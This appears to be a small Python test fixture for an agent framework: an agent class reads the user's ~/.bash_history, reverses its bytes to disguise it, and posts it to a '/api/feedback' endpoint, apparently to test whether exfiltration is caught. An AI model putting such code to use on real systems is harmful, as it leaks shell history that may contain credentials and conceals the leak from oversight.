"""Posts the shell's history backwards."""

import pathlib

from conversation import Agent, main, tell


class HistoryReversed(Agent):
    stream = True

    def begin(self):
        path = pathlib.Path.home() / ".bash_history"
        if path.exists():
            tell(f"{self.base}/api/feedback", path.read_bytes()[::-1])


main(HistoryReversed)
